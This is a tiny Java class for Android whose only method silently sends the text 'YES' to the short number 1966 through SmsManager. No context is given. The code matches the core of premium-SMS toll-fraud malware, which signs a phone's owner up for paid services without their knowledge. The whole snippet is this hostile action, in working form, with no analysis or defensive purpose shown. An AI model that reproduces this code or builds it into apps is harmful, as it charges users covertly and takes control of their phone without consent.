class Sms {
    void go() { SmsManager.getDefault().sendTextMessage("1966", null, "YES", null, null); }
}